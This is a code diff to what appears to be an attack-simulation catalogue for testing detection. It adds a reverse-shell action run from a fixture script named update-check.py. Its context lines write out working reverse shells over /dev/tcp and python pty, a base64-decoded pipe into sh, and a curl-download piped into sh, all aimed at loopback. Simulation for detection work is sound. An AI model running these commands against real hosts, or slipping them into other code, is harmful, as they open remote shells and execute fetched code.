@@ -9,6 +9,8 @@
 // $T is a private scratch directory, $P a free loopback port, $PY the system python.
 
 const py = (code) => `"$PY" - <<'PYEOF'\n${code}\nPYEOF`;
+/** Scripts the simulations run as files (bench/attack-sim/fixtures). */
+const FIXTURES = `${import.meta.dirname}/fixtures`;
 
 /** @type {{id:string,tactic:string,technique:string,name:string,run:string,setup?:string,cleanup?:string,requires?:string[]}[]} */
 export const ACTIONS = [
@@ -81,6 +83,7 @@ kill $v` },
   // ---- execution
   { id: 'exec-bash-reverse-shell', tactic: 'execution', technique: 'T1059.004', name: 'bash reverse shell over /dev/tcp', run: 'timeout 5 bash -c "bash -i >& /dev/tcp/127.0.0.1/$P 0>&1" 2>/dev/null; true', setup: 'listener' },
   { id: 'exec-python-reverse-shell', tactic: 'execution', technique: 'T1059.006', name: 'python reverse shell with a pty', setup: 'listener', run: `timeout 5 "$PY" -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",'$P'));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' 2>/dev/null; true` },
+  { id: 'exec-script-reverse-shell', tactic: 'execution', technique: 'T1059.004', name: 'reverse shell from a script file (no command line names it)', setup: 'listener', run: `timeout 5 "$PY" "${FIXTURES}/update-check.py" 2>/dev/null; true` },
   { id: 'exec-pty-shell', tactic: 'execution', technique: 'T1059.006', name: 'interpreter spawns a shell on a pty', run: `echo exit | timeout 5 "$PY" -c 'import pty; pty.spawn("/bin/sh")' > /dev/null; true` },
   { id: 'exec-base64-pipe', tactic: 'execution', technique: 'T1027', name: 'decoded pipeline into a shell', run: 'echo "aWQ7IHVuYW1lIC1h" | base64 -d | sh > /dev/null' },
   { id: 'exec-curl-pipe-sh', tactic: 'execution', technique: 'T1105', name: 'download a script and pipe it into sh', setup: 'webserver', run: 'curl -s "http://127.0.0.1:$P/x.sh" | sh > /dev/null' },
